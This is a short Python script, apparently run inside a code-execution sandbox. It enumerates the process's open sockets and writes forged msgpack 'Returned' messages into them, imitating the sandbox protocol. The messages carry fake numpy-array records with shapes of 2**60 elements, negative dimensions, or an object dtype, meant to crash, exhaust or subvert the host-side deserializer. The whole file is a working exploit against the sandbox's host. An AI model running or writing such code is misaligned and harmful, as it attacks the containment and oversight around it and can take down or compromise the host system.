"""Sends arrays whose shape promises 2**60 numbers, or claims types that may not cross."""

# %%
import os, socket, stat, struct


def sockets():
    """Every socket that this process holds."""
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            pass


def send(body, length=None):
    """Writes a message into each of them, as the sandbox would."""
    for descriptor in sockets():
        try:
            os.write(descriptor, struct.pack("<I", len(body) if length is None else length) + body)
        except OSError:
            pass


# %%
import msgspec


def forged(dtype, shape, data):
    record = msgspec.msgpack.encode([dtype, shape, False, data])
    return msgspec.msgpack.encode(msgspec.msgpack.Ext(2, record))


shapes = iter([("<f8", [2**60], b""), ("<f8", [0, 2**62], b""), ("|O", [1], b"12345678"), ("<f8", [-1], bytes(8))] * 9)


def wave(x):
    value = forged(*next(shapes))
    send(msgspec.msgpack.encode(["Returned", value, value, ""]))
    return np.lib.stride_tricks.as_strided(x, (2**20, 2**20), (0, 0))
